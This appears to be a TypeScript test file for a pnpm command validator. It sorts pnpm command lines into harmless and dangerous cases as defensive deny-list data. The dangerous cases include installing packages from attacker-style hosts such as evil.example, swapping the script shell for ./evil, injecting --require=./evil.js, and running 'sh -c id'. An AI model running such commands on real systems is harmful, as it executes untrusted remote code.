import { checkCases } from "./manager-cases.ts";

checkCases("pnpm", {
  harmless: `
pnpm
pnpm install
pnpm i
pnpm i --frozen-lockfile
pnpm install --no-frozen-lockfile --prefer-offline
pnpm install --ignore-scripts
pnpm install --prod
pnpm install -r --lockfile-only
pnpm add -D vitest@^1
pnpm add -DE typescript
pnpm add react react-dom
pnpm add -w eslint
pnpm add @scope/a@workspace:*
pnpm add x@catalog:
pnpm add zod --filter api
pnpm remove lodash
pnpm update --latest
pnpm up -r "@types/*"
pnpm run build
pnpm test:unit
pnpm -r build:prod
pnpm --filter api db:migrate:dev --name x
pnpm ls -r --depth -1 --json
pnpm list --depth=-1
pnpm run build --watch
pnpm run --if-present build
pnpm run build --dir ../evil
pnpm -r run build
pnpm -r build
pnpm --filter api build
pnpm --filter=api... run test
pnpm -F "./packages/*" build
pnpm --filter "...[origin/main]" test
pnpm --recursive --parallel run dev
pnpm -r --no-bail --stream test
pnpm --loglevel error run build
pnpm --reporter=append-only test
pnpm -s lint
pnpm test
pnpm t
pnpm test --watch
pnpm test -- --grep "a b"
pnpm start
pnpm restart
pnpm dev --port 3000
pnpm lint --fix
pnpm typecheck
pnpm -w run lint
pnpm ls --depth=0
pnpm list -r --json
pnpm why react
pnpm outdated --format json
pnpm audit --audit-level high
pnpm licenses list
pnpm dedupe --no-color
pnpm prune --prod
pnpm store path
pnpm root
pnpm pack --pack-destination dist
pnpm --version
pnpm -v
`,
  dangerous: `
pnpm foo
pnpm sh -c id
pnpm -r sh
pnpm --filter api tsx evil.ts
pnpm exec evil
pnpm -r exec evil
pnpm dlx evil
pnpm create vite
pnpm init
pnpm env use --global 22
pnpm config set script-shell ./evil
pnpm self-update
pnpm setup
pnpm server start
pnpm store prune
pnpm store add evil
pnpm deploy out
pnpm patch react
pnpm publish
pnpm link ../x
pnpm login
pnpm rebuild
pnpm approve-builds
pnpm recursive exec evil
pnpm m run build
pnpm -- exec evil
pnpm --dir /tmp/evil test
pnpm --di /tmp/evil test
pnpm -C /tmp/evil test
pnpm -C=/tmp/evil test
pnpm -rC /tmp/evil test
pnpm run -C /tmp/evil build
pnpm restart --dir ../evil
pnpm --prefix /tmp/evil test
pnpm --config.script-shell=./evil test
pnpm run --script-shell=./evil build
pnpm --script-sh ./evil test
pnpm --shell-emulator test
pnpm --node-options=--require=./evil.js test
pnpm --resume-from x build --dir ../evil
pnpm --workspace-concurrency 1 -r build --dir ../evil
pnpm --loglevel sh lint
pnpm --reporter env build
pnpm -r --filter "[--output=/tmp/x]" build
pnpm -F "...[--output=x]" build
pnpm install -g evil
pnpm add --global evil
pnpm add --global-dir /tmp evil
pnpm add --registry=https://evil.example x
pnpm add --allow-build=evil evil
pnpm install --dangerously-allow-all-builds
pnpm install --no-ignore-scripts
pnpm install --ignore-scripts false
pnpm install --lockfile-dir ..
pnpm install --modules-dir /tmp
pnpm install --store-dir /tmp
pnpm install --pnpmfile=../evil.cjs
pnpm add evil/repo
pnpm add github:evil/repo
pnpm add git+https://evil.example/x.git
pnpm add https://evil.example/x.tgz
pnpm add ./evil
pnpm add --sort-by evil/repo
pnpm add --depth ./evil
pnpm add link:../x
pnpm add x@npm:y
pnpm add -- ../evil
pnpm i ../evil
pnpm update -g
pnpm pack --pack-destination /tmp
`,
  options: `
--dir=/tmp/evil
--dir
-C
-rC
--prefix=x
--script-shell=./evil
--node-options=x
--config.script-shell=x
--global-dir=/tmp
-g
--resume-from
--userconfig=x
--no-ignore-scripts
`,
  // What follows the name of a script is for the script.
  end: (args) => {
    const at = args.findIndex(
      (arg, i) => /^(build|test|t|start|dev|lint|typecheck|\w+:[\w:]+)$/.test(arg) && args[i - 1] !== "--filter",
    );
    return at < 0 ? args.length : at;
  },
});
